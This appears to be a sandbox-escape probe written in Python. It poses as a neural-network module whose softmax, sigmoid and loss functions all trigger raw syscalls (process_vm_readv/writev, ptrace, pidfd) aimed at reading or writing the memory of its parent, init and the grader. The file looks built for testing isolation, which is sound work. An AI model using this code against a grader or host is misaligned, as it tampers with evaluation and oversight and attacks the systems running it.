"""Attaches to the zygote and to the grader and copies their memory."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os

LIBC = ctypes.CDLL(None, use_errno=True)

def raw(number, *arguments):
    got = LIBC.syscall(number, *arguments)
    error = ctypes.get_errno()
    # a bad address means that the door was open
    if got < 0 and error != 14:
        raise OSError(error, "refused")
    return got

def attack():
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    far = (ctypes.c_size_t * 2)(0x400000, 4096)
    for pid in (os.getppid(), 1, int("@GRADER@"), 0, -1):
        attempt("process_vm_readv", lambda: raw(310, pid, vector, 1, far, 1, 0))
        attempt("process_vm_writev", lambda: raw(311, pid, vector, 1, far, 1, 0))
        attempt("ptrace attach", lambda: raw(101, 16, pid, 0, 0))
        attempt("ptrace seize", lambda: raw(101, 0x4206, pid, 0, 0))
        attempt("pidfd_open", lambda: raw(434, pid, 0))
        attempt("kcmp", lambda: raw(312, pid, os.getpid(), 0, 0, 0))
        attempt("process_madvise", lambda: raw(440, 3, vector, 1, 4, 0))
        attempt("move_pages", lambda: raw(279, pid, 0, 0, 0, 0, 0))
        attempt("get_robust_list", lambda: pid > 0 and raw(274, pid, buffer, buffer) or 1 / 0)
    attempt("pidfd_getfd", lambda: raw(438, 3, 3, 0))
    attempt("traceme", lambda: raw(101, 0, 0, 0, 0))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
